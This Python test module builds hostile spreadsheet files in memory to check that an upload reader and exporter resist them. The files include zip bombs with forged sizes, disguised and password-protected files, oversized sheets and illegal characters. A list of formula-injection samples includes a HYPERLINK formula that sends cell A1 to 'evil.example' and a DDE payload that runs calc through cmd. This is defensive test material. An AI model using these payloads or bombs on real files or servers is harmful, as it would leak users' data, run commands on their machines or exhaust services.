"""Hostile spreadsheet files built in memory: forged zips and sheets, bombs, disguised files.

Nothing here is committed as a binary; every file is made by the test that needs it.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from xml.sax.saxutils import escape

from workbench.core.spreadsheet import MIB, ReadLimits, column_letter

# What the upload check tells the user of a disguised file, before any reader opens it.
DISGUISED = {
    "truncated zip": "内容是已损坏（不完整）的压缩包",
    "zip that is no workbook": "内容是压缩包",
    "docx renamed": "文件是Word 文档（.docx），不是 Excel 工作簿",
    "png renamed": "内容是PNG 图片",
    "html renamed": "内容是可执行程序或网页",
    "csv renamed": "内容是文本",
    "password-protected xlsx": "内容是Office 97-2003/WPS 文档",
    "password-protected xls renamed": "内容是Office 97-2003/WPS 文档",
}

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
# A 1×1 PNG's first bytes are all a sniffer looks at.
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + b"\0" * 64


def cell(ref: str, value: object) -> str:
    """One `<c>` element: numbers and booleans as values, anything else as an inline string."""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return (
        f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'
    )


def rows_xml(rows: list[list[object]], *, first_row: int = 1) -> str:
    """`<row>` elements for a block of values (None leaves a cell out)."""
    out = []
    for r, values in enumerate(rows, start=first_row):
        cells = "".join(
            cell(f"{column_letter(c)}{r}", v)
            for c, v in enumerate(values, start=1)
            if v is not None
        )
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def sheet_xml(data: str, *, dimension: str | None = None, after: str = "") -> str:
    """A worksheet part around `data` (the inside of `<sheetData>`)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'{_HEAD}<worksheet xmlns="{MAIN}" xmlns:r="{_REL}">{dim}<sheetData>{data}</sheetData>{after}</worksheet>'


def package(
    sheets: list[tuple[str, str]],
    *,
    shared: list[str] | None = None,
    extra: dict[str, bytes | str] | None = None,
    chart_sheets: int = 0,
) -> bytes:
    """A minimal .xlsx holding the given (name, worksheet XML) sheets in order."""
    buffer = io.BytesIO()
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    entries, rels = [], []
    for i, (name, _xml) in enumerate(sheets, start=1):
        entries.append(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>')
        rels.append(
            f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        )
    for j in range(chart_sheets):
        i = len(sheets) + j + 1
        entries.append(f'<sheet name="图表{j + 1}" sheetId="{i}" r:id="rId{i}"/>')
        rels.append(
            f'<Relationship Id="rId{i}" Type="{_REL}/chartsheet" Target="chartsheets/sheet{j + 1}.xml"/>'
        )
    if shared is not None:
        rels.append(
            f'<Relationship Id="rIdS" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            f'officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'{_HEAD}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" Type="{_REL}/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'{_HEAD}<workbook xmlns="{MAIN}" xmlns:r="{_REL}"><sheets>{"".join(entries)}</sheets>'
            "</workbook>",
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'{_HEAD}<Relationships xmlns="{_PKG}">{"".join(rels)}</Relationships>',
        )
        for i, (_name, xml) in enumerate(sheets, start=1):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        if shared is not None:
            items = "".join(f'<si><t xml:space="preserve">{s}</t></si>' for s in shared)
            archive.writestr(
                "xl/sharedStrings.xml",
                f'{_HEAD}<sst xmlns="{MAIN}" count="{len(shared)}" uniqueCount="{len(shared)}">'
                f"{items}</sst>",
            )
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def one_sheet(rows: list[list[object]], *, name: str = "Sheet1", more: str = "", **kw) -> bytes:
    """A one-sheet workbook of these rows, with `more` XML appended inside `<sheetData>`."""
    return package([(name, sheet_xml(rows_xml(rows) + more, **kw))])


def plain_zip(members: dict[str, bytes | str]) -> bytes:
    """A zip holding exactly these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx() -> bytes:
    """A (minimal) Word document."""
    return plain_zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document xmlns:w='x'><w:body/></w:document>",
        }
    )


def _central_entry(data: bytes, member: str) -> int:
    """Offset of a member's central directory record."""
    name = member.encode()
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name:
            return at
        at = data.find(b"PK\x01\x02", at + 4)
    raise KeyError(member)


def forge_size(data: bytes, member: str, size: int) -> bytes:
    """The zip with a member's declared (uncompressed) size changed in the central directory."""
    at = _central_entry(data, member)
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


def forge_flags(data: bytes, member: str, *, flags: int | None = None, method: int | None = None):
    """The zip with a member's flag bits or compression method changed (central directory)."""
    at = _central_entry(data, member)
    old_flags, old_method = struct.unpack_from("<HH", data, at + 8)
    new = struct.pack(
        "<HH", old_flags if flags is None else flags, old_method if method is None else method
    )
    return data[: at + 8] + new + data[at + 12 :]


def duplicate_member(data: bytes, member: str) -> bytes:
    """The zip with a second member of the same name appended."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        content = archive.read(member)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name" is the point
            archive.writestr(member, content)
    return buffer.getvalue()


def deflate_bomb(size: int, *, fill: bytes = b" ") -> bytes:
    """A raw deflate stream of `size` repeated bytes, made without holding them in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = fill * (1024 * 1024)
    out = [packer.compress(block) for _ in range(size // len(block))]
    out.append(packer.compress(fill * (size % len(block))))
    out.append(packer.flush())
    return b"".join(out)


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (Office 97-2003 container) holding these streams.

    Every stream is padded to 4 KiB so it lives in regular sectors (no mini stream needed)."""
    sector = 512
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    names = list(streams)[:3]
    bodies = [
        streams[n].ljust(max(4096, -(-len(streams[n]) // sector) * sector), b"\0") for n in names
    ]
    fat = [fat_sector, end]
    starts = []
    for body in bodies:
        starts.append(len(fat))
        count = len(body) // sector
        fat += [len(fat) + k + 1 for k in range(count - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<I", header, 76, 0)
    for k in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * k, free)

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le")
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded) + 2, kind, 1)
        struct.pack_into("<III", raw, 68, free, right, child)
        struct.pack_into("<II", raw, 116, start, size)
        return bytes(raw)

    directory = entry("Root Entry", 5, 1 if names else free, free, end, 0)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else free
        directory += entry(name, 2, free, right, starts[i], len(bodies[i]))
    directory = directory.ljust(sector, b"\0")
    return bytes(header) + struct.pack(f"<{sector // 4}I", *fat) + directory + b"".join(bodies)


def encrypted_xlsx() -> bytes:
    """What Excel saves for an .xlsx with an open password: an encrypted package in OLE."""
    return ole_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 200, "EncryptedPackage": b"\x01" * 5000}
    )


def encrypted_xls() -> bytes:
    """An .xls whose workbook stream starts with a FILEPASS record (a password to open)."""
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0, 1997, 0, 0)
    filepass = struct.pack("<HH", 0x002F, 6) + struct.pack("<HHH", 1, 1, 1)
    return ole_file({"Workbook": bof + filepass})


def word_97() -> bytes:
    """A Word 97-2003 document (an OLE container without a workbook)."""
    return ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100})


def hostile(
    sheets: list[tuple[str, list[list[object]]]], limits: ReadLimits
) -> dict[str, Callable[[], bytes]]:
    """Hostile .xlsx files built around a valid workbook (these sheets), each just past one cap.

    Keys name the attack; values build the bytes when called (some are a few MB)."""
    first, rows = sheets[0]
    width = max(len(r) for r in rows)

    def book(more: str = "", *, after: str = "", dimension: str | None = None, extra=None):
        parts = [(first, sheet_xml(rows_xml(rows) + more, after=after, dimension=dimension))]
        parts += [(name, sheet_xml(rows_xml(body))) for name, body in sheets[1:]]
        return package(parts, extra=extra)

    def row(number: int, cells: str) -> str:
        return f'<row r="{number}">{cells}</row>'

    below = len(rows) + 1
    valid = book()
    sheet_path = "xl/worksheets/sheet1.xml"
    return {
        "truncated zip": lambda: valid[: len(valid) // 2],
        "zip that is no workbook": lambda: plain_zip({"readme.txt": "hello"}),
        "docx renamed": docx,
        "png renamed": lambda: PNG,
        "html renamed": lambda: (
            b"<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>"
        ),
        "csv renamed": lambda: "一级指标,二级指标\n决策,立项\n".encode(),
        "password-protected xlsx": encrypted_xlsx,
        "password-protected xls renamed": encrypted_xls,
        "zip bomb (ratio)": lambda: book(extra={"xl/media/image1.png": b" " * (2 * MIB)}),
        "zip bomb (declared size)": lambda: forge_size(
            valid, sheet_path, limits.max_uncompressed_bytes + MIB
        ),
        "zip bomb (lying size)": lambda: forge_size(
            book(row(below, "") * 100_000), sheet_path, 2000
        ),
        "duplicate zip members": lambda: duplicate_member(valid, sheet_path),
        "encrypted zip member": lambda: forge_flags(valid, sheet_path, flags=1),
        "too many sheets": lambda: package(
            [(first, sheet_xml(rows_xml(rows)))]
            + [(f"表{i}", sheet_xml("")) for i in range(limits.max_sheets)]
        ),
        "forged dimension": lambda: book(dimension="A1:XFD1048576"),
        "far corner cell": lambda: book(row(1048576, '<c r="XFD1048576"><v>1</v></c>')),
        "too many rows": lambda: book(
            "".join(row(r, f'<c r="A{r}"><v>1</v></c>') for r in range(below, limits.max_rows + 2))
        ),
        "too many columns": lambda: book(
            row(below, f'<c r="{column_letter(limits.max_columns + 1)}{below}"><v>1</v></c>')
        ),
        "area too large": lambda: book(
            row(below, f'<c r="{column_letter(limits.max_columns)}{below}"><v>1</v></c>')
            + row(
                limits.max_cells // limits.max_columns + 10,
                f'<c r="A{limits.max_cells // limits.max_columns + 10}"><v>1</v></c>',
            )
        ),
        "cells without references": lambda: book(
            row(below, "<c><v>1</v></c>" * (limits.max_columns + 1))
        ),
        "fake end of data": lambda: book(
            row(
                below, f'<c r="A{below}" t="inlineStr"><is><t><![CDATA[</sheetData>]]></t></is></c>'
            )
            + row(limits.max_rows + 5, f'<c r="A{limits.max_rows + 5}"><v>1</v></c>')
        ),
        "merged cells past the sheet": lambda: book(
            after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        "merged cells by the thousand": lambda: book(
            after="<mergeCells>"
            + '<mergeCell ref="A1:B1"/>' * (limits.max_merged_ranges + 1)
            + "</mergeCells>"
        ),
        "100 KB cell": lambda: book(row(below, cell(f"B{below}", "长" * 100_000))),
        "huge shared string": lambda: package(
            [(first, sheet_xml(rows_xml(rows) + row(below, f'<c r="B{below}" t="s"><v>0</v></c>')))]
            + [(name, sheet_xml(rows_xml(body))) for name, body in sheets[1:]],
            shared=["串" * (limits.max_cell_chars + 1)],
        ),
        "NUL in a cell": lambda: book(row(below, cell(f"B{below}", "a_x0000_b"))),
        "U+FFFE in a cell": lambda: book(row(below, cell(f"C{below}", "a\ufffeb"))),
        "formula": lambda: book(
            row(below, f'<c r="{column_letter(width)}{below}"><f>1+1</f><v>2</v></c>')
        ),
    }


# Stored texts a spreadsheet would take for formulas (the 问卷统计表 leak of issue 12, and kin).
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
)


def illegal_texts(db) -> tuple[str, ...]:
    """Texts with characters XML cannot hold, as far as this database stores them: PostgreSQL
    refuses NUL, and no driver stores a lone surrogate (the writer's own tests cover those)."""
    texts = ("坏\ufffe字",)
    return texts if db.get_bind().dialect.name == "postgresql" else ("空\x00字", *texts)


def assert_safe_export(data: bytes, texts) -> None:
    """No formula cell anywhere, formula-like text quoted, nothing XML cannot hold, and every
    given text kept (without its illegal characters) in some cell."""
    import openpyxl

    from workbench.core.spreadsheet import ILLEGAL_CHARACTERS, needs_quote

    values = []
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for found in row:
                where = f"{sheet.title}!{found.coordinate}"
                assert found.data_type != "f", (where, found.value)
                if isinstance(found.value, str):
                    assert not ILLEGAL_CHARACTERS.search(found.value), where
                    assert found.quotePrefix or not needs_quote(found.value), (where, found.value)
                    values.append(found.value)
    for text in texts:
        kept = ILLEGAL_CHARACTERS.sub("", text)
        assert any(kept in value for value in values), kept
